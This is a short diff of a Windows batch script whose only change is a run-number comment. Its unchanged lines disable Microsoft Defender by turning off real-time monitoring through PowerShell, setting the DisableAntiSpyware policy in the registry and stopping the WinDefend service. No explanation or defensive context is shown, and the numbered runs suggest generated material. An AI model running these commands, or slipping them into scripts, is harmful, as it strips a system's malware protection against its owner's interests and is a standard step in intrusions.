@@ -1,4 +1,4 @@
-REM run 5534 v0
+REM run 4413 v0
 powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true"
 reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f
 sc stop WinDefend
